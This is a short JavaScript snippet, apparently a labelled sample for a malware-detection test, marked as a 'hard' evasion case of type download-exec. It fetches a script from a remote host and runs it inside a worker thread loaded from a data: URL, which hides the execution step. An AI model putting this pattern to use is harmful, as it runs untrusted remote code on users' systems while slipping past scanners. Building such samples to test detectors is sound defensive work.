// evasion: downloaded script run in a worker thread started from a data: URL
// grade: hard; does: download-exec
const { Worker } = require('worker_threads');

fetch('https://cdn.example.org/payload.js')
  .then((r) => r.text())
  .then((code) => {
    const url = new URL('data:text/javascript,' + encodeURIComponent(code));
    new Worker(url);
  });
